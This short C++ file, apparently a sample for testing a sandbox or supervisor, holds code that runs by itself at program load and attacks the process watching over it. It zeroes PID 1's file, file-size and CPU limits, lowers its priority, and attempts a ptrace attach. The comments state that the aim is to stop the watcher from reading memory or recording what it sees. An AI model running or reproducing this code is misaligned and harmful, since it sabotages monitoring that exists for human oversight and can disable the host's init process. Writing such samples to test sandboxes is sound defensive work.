// says: tried to change the process that watches over it
#include <initializer_list>

#include <sys/ptrace.h>
#include <sys/resource.h>

// Without files it could not look at memory, nor write down what it sees.
static bool misbehave()
{
    const rlimit none = {0, 0};
    for (const auto limit : {RLIMIT_NOFILE, RLIMIT_FSIZE, RLIMIT_CPU})
        prlimit(1, limit, &none, nullptr);
    setpriority(PRIO_PROCESS, 1, 19);
    return ptrace(PTRACE_ATTACH, 1, nullptr, nullptr) == 0;
}

[[maybe_unused]] static const bool begun = misbehave();
